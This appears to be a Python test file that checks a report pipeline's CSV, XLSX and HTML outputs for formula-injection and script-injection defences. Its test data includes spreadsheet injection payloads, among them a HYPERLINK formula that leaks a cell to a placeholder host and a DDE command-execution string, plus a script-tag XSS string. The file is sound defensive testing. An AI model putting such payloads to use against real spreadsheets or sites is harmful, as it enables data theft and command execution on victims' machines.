"""summary.csv / summary.xlsx never carry a formula, whatever the applicant typed; index.html
escapes it and links every memo."""
from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import load_workbook

from pipeline.summary import COLUMNS, csv_bytes, failure_row, index_html, neutralise, xlsx_bytes

EVIL = ['=HYPERLINK("http://x.example/?"&A1,"点我")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
        "=cmd|' /C calc'!A0"]


def rows():
    out = []
    for i, name in enumerate(EVIL):
        out.append({"dossier_id": f"d{i}", "cluster_name": name, "profile": "national", "status": "done",
                    "verdict": "pass", "errors": 0, "warnings": 1, "problems": 0, "error": "", "years": "2020–2022",
                    "total_output_first": 31.8, "total_output_last": -1.26, "leading_cagr": 12.78,
                    "memo": f"d{i}/memo.html"})
    out.append(failure_row("broken", "=1+1 处理失败"))
    return out


def test_neutralise():
    assert neutralise("=1+1") == "'=1+1" and neutralise("@x") == "'@x" and neutralise("\tx") == "'\tx"
    assert neutralise("集群=1") == "集群=1" and neutralise(-3.5) == -3.5 and neutralise(None) is None


def test_csv_cells_that_would_be_formulas_are_neutralised():
    data = csv_bytes(rows())
    assert data.startswith("\ufeff".encode("utf-8"))           # Excel reads the Chinese right
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert table[0] == [h for _, h in COLUMNS]
    names = [r[1] for r in table[1:-1]]
    assert names == ["'" + e for e in EVIL]
    errors = [r[8] for r in table[1:]]
    assert errors[-1] == "'=1+1 处理失败"
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in table[1:] for c in r
               if not _is_number(c)), "only numbers may start with a sign"
    assert table[1][11] == "-1.26"                                # a negative number stays a number


def test_xlsx_has_no_formula_cells():
    data = xlsx_bytes(rows())
    ws = load_workbook(io.BytesIO(data)).active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert [ws.cell(r, 2).value for r in range(2, 2 + len(EVIL))] == ["'" + e for e in EVIL]
    assert ws.cell(2, 12).value == -1.26 and ws.cell(2, 12).data_type == "n"
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet


def test_index_escapes_and_links(tmp_path):
    for r in rows():
        (tmp_path / r["dossier_id"]).mkdir()
        (tmp_path / r["dossier_id"] / "memo.html").write_text("x")
    r = rows()
    r[0]["cluster_name"] = "<script>alert(1)</script>"
    html = index_html(r, tmp_path)
    assert "<script>alert" not in html and "&lt;script&gt;" in html
    assert html.count('href="d0/memo.html"') == 2 and 'href="broken/memo.html"' in html
    assert "处理失败" in html
    # the criteria by the name the clerk knows, its id beside it; an unknown id shown as it is
    assert "中小企业特色产业集群认定标准（2022年版）" in html
    r[1]["profile"] = "<b>x</b>"
    assert "&lt;b&gt;x&lt;/b&gt;" in index_html(r, tmp_path)


def _is_number(s: str) -> bool:
    try:
        float(s)
        return True
    except ValueError:
        return False
